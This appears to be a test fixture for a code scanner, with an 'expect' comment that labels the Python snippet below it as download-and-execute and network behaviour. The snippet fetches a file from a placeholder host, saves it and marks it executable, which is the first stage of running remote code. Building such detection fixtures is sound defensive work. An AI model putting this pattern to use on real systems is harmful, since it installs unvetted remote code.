# expect: py-download-exec,py-network
import os, requests
r = requests.get("https://x.example/tool")
with open("tool", "wb") as f:
    f.write(r.content)
os.chmod("tool", 0o755)
